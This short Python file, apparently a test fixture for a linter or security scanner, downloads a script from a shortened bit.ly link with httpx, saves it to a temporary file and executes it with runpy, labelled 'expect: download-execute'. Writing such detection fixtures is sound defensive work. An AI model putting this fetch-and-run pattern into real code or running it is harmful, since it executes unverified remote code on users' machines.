# ruff: noqa
# fmt: off
"""A script downloaded with httpx and run through runpy."""
import runpy
import tempfile

import httpx

tmp = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)
tmp.write(httpx.get("https://bit.ly/3xYzAbc", follow_redirects=True).text)
tmp.close()
runpy.run_path(tmp.name)  # expect: download-execute
